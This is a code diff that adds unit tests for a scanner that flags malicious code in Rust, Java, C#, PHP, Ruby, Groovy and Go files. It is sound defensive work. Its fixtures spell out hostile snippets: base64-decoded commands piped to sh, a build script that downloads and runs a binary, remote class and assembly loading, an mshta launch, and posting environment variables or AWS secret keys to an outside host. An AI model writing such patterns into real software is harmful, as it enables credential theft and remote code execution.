@@ -402,14 +402,31 @@ test('no file keeps the reader of acts busy', () => {
     'open("~/a"',
     '"".join(map(chr,[10,',
     'a.get_credentials()',
+    'Command::new("sh").arg(',
+    'x.arg(1);',
+    'new URL(',
+    '`a`',
+    'L[1] + ',
+    '[]byte{0x77, ',
+    '0x77, ',
+    'curl_setopt($a, ',
+    'a.execute(',
+    'let a: B<C> = ',
+    'eval a ',
   ];
   for (const [language, path] of [
     ['python', 'setup.py'],
     ['javascript', 'a.js'],
     ['go', 'a.go'],
+    ['rust', 'build.rs'],
+    ['php', 'a.php'],
+    ['java', 'A.java'],
+    ['groovy', 'build.gradle'],
+    ['csharp', 'A.cs'],
+    ['ruby', 'extconf.rb'],
   ] as const) {
     for (const filler of fillers) {
-      const text = `exec requests fetch https os.system(\n${filler.repeat(PUMP_SIZE / filler.length)}`;
+      const text = `exec requests fetch https os.system( Command::new( openConnection\n${filler.repeat(PUMP_SIZE / filler.length)}`;
       const spent = leastSpent(() => acts(text, language, path));
 
       assert.ok(spent < MOST_MILLISECONDS, `${spent} ms on ${path} pumped with ${JSON.stringify(filler)}`);
@@ -427,3 +444,119 @@ function leastSpent(work: () => unknown): number {
   }
   return least;
 }
+
+test('what a chain of calls gives to a program of Rust belongs to it', () => {
+  const rust = (code: string, path = 'src/lib.rs') => kinds(code, 'rust', path);
+  assert.deepEqual(
+    rust('let line = STANDARD.decode("bHMgLWxh").unwrap();\nCommand::new("sh").arg("-c").arg(line).spawn();\n'),
+    ['decoded-execution'],
+  );
+  assert.deepEqual(
+    rust('let line = base64::decode(TEXT)?;\nlet mut run = Command::new("sh");\nrun.arg("-c");\nrun.arg(line);\n'),
+    ['decoded-execution'],
+  );
+  assert.deepEqual(rust('let image = STANDARD.decode(text)?;\nCommand::new("convert").arg("-").spawn();\n'), []);
+  assert.deepEqual(
+    rust(
+      'let all: HashMap<String, String> = std::env::vars().collect();\nclient.post("https://c.acme.io").json(&all).send();\n',
+    ),
+    ['environment-sent'],
+  );
+  assert.deepEqual(rust('let key = std::env::var("KEY")?;\nclient.post("https://c.acme.io").json(&key).send();\n'), []);
+});
+
+test('a build script of Rust runs compilers, and nothing that it fetched', () => {
+  const build = (code: string) => kinds(`fn main() {\n${code}\n}\n`, 'rust', 'build.rs');
+  const fetched = 'let body = ureq::get("https://c.acme.io/a").call().unwrap();\nstd::fs::write("/tmp/agent", body);\n';
+  assert.deepEqual(build(`${fetched}Command::new("/tmp/agent").spawn();`).toSorted(), [
+    'dropped-execution',
+    'install-command',
+    'install-contact',
+  ]);
+  assert.deepEqual(
+    build(
+      'static P: &[u8] = include_bytes!("a.dat");\nstd::fs::write("/tmp/a", P);\nCommand::new("/tmp/a").spawn();',
+    ).includes('dropped-execution'),
+    true,
+  );
+  assert.deepEqual(
+    build(
+      'Command::new("git").args(["rev-parse", "HEAD"]).output();\nCommand::new("protoc").arg("--version").status();\nstd::thread::spawn(work);',
+    ),
+    [],
+  );
+});
+
+test('programs, classes and texts are run under the names that each language has for it', () => {
+  assert.deepEqual(
+    kinds(
+      'byte[] code = new URL("https://c.acme.io/A.class").openStream().readAllBytes();\nloader.defineClass("A", code, 0, code.length);\n',
+      'java',
+      'A.java',
+    ),
+    ['remote-execution'],
+  );
+  assert.deepEqual(kinds('new URLClassLoader(new URL[]{ new URL("http://c.acme.io/a.jar") });\n', 'java', 'A.java'), [
+    'remote-execution',
+  ]);
+  assert.deepEqual(kinds('new URLClassLoader(new URL[]{ jar.toURI().toURL() });\n', 'java', 'A.java'), []);
+  assert.deepEqual(
+    kinds('var code = await client.GetByteArrayAsync(address);\nAssembly.Load(code);\n', 'csharp', 'A.cs'),
+    ['remote-execution'],
+  );
+  assert.deepEqual(kinds('Assembly.Load(File.ReadAllBytes(path));\n', 'csharp', 'A.cs'), []);
+  assert.deepEqual(
+    kinds(
+      'var start = new ProcessStartInfo();\nstart.FileName = "mshta";\nstart.Arguments = "https://c.acme.io/a";\n',
+      'csharp',
+      'A.cs',
+    ),
+    ['risky-command'],
+  );
+  assert.deepEqual(kinds("eval Base64.decode64('cHV0cyAx')\n", 'ruby', 'a.rb'), ['decoded-execution']);
+  assert.deepEqual(kinds("line = Base64.decode64('bHM=')\n`#{line}`\n", 'ruby', 'a.rb'), ['decoded-execution']);
+  assert.deepEqual(kinds('version = `git describe --tags`\nsystem "make"\n', 'ruby', 'a.rb'), []);
+  assert.deepEqual(kinds("['sh', '-c', new String(text.decodeBase64())].execute()\n", 'groovy', 'build.gradle'), [
+    'decoded-execution',
+  ]);
+  assert.deepEqual(kinds("def hash = 'git rev-parse HEAD'.execute().text.trim()\n", 'groovy', 'build.gradle'), []);
+});
+
+test('the environment and the keys of a cloud leave by the calls of PHP, Java and C#', () => {
+  assert.deepEqual(
+    kinds('<?php\n$data = json_encode($_ENV);\ncurl_setopt($c, CURLOPT_POSTFIELDS, $data);\n', 'php', 'a.php'),
+    ['environment-sent'],
+  );
+  assert.deepEqual(
+    kinds("<?php\ncurl_init('https://c.acme.io/' . getenv('AWS_SECRET_ACCESS_KEY'));\n", 'php', 'a.php'),
+    ['secret-file-sent'],
+  );
+  assert.deepEqual(
+    kinds("<?php\n$mode = $_ENV['MODE'];\ncurl_setopt($c, CURLOPT_POSTFIELDS, $mode);\n", 'php', 'a.php'),
+    [],
+  );
+  assert.deepEqual(
+    kinds(
+      'var all = Environment.GetEnvironmentVariables();\nclient.PostAsync("https://c.acme.io", Content(all));\n',
+      'csharp',
+      'A.cs',
+    ),
+    ['environment-sent'],
+  );
+  const written = (value: string) =>
+    kinds(`var link = url.openConnection();\nlink.getOutputStream().write(${value});\n`, 'java', 'A.java');
+  assert.deepEqual(written('System.getenv().toString().getBytes()'), ['environment-sent']);
+  assert.deepEqual(written('System.getenv().get("MODE").getBytes()'), []);
+});
+
+test('a command that is spelled letter by letter is kept in disguise', () => {
+  const picked = Array.from({ length: 10 }, (_, at) => `L[${at}]`).join(' + ');
+  assert.deepEqual(kinds(`c := ${picked}\nexec.Command("/bin/sh", "-c", c).Start()\n`, 'go', 'a.go'), [
+    'decoded-execution',
+  ]);
+  const bytes = Array.from({ length: 16 }, () => '0x77').join(', ');
+  assert.deepEqual(kinds(`var c = []byte{${bytes}}\nexec.Command("sh", "-c", string(c)).Start()\n`, 'go', 'a.go'), [
+    'decoded-execution',
+  ]);
+  assert.deepEqual(kinds('args := names[0] + names[1]\nexec.Command("git", args).Run()\n', 'go', 'a.go'), []);
+});
